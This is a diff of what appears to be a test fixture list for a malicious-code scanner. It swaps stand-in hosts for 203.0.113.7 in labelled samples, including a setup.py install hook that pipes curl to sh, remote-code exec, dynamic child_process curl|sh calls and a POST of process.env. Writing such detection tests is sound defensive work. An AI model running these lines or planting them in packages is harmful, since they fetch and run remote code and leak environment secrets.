@@ -144,7 +144,7 @@ import os
 class P(install):
     def run(self):
         install.run(self)
-        os.system('curl -s https://x.some-site.net/i | sh')
+        os.system('curl -s http://203.0.113.7/i | sh')
 setup(name='x', cmdclass={'install': P})`,
   ],
   [
@@ -161,7 +161,7 @@ exec(urlopen('https://x.some-site.net/p.py').read())`,
 urllib.request.urlretrieve('http://203.0.113.7/m.py', '/tmp/m.py')
 spec = importlib.util.spec_from_file_location('m', '/tmp/m.py')`,
   ],
-  ['import os system', 'download-execute', `__import__('os').system('curl https://x.some-site.net/i | bash')`],
+  ['import os system', 'download-execute', `__import__('os').system('curl http://203.0.113.7/i | bash')`],
   [
     'lambda exec',
     'decode-execute',
@@ -574,8 +574,8 @@ exec(\`curl -X POST -d '\${JSON.stringify(process.env)}' https://x.some-site.net
 req.end(JSON.stringify({ env: process.env }))`,
   ],
   ['zlib', 'decode-execute', `eval(require('zlib').inflateSync(Buffer.from('eJxLTMoEAAJNARw=', 'base64')).toString())`],
-  ['dynamic import', 'download-execute', `const m = await import('child_process'); m.exec('curl https://x.some-site.net/a | sh')`],
-  ['import then', 'download-execute', `import('node:child_process').then(({ exec }) => exec('curl https://x.some-site.net/a | sh'))`],
+  ['dynamic import', 'download-execute', `const m = await import('child_process'); m.exec('curl http://203.0.113.7/a | sh')`],
+  ['import then', 'download-execute', `import('node:child_process').then(({ exec }) => exec('curl http://203.0.113.7/a | sh'))`],
   [
     'ws exec',
     'reverse-shell',
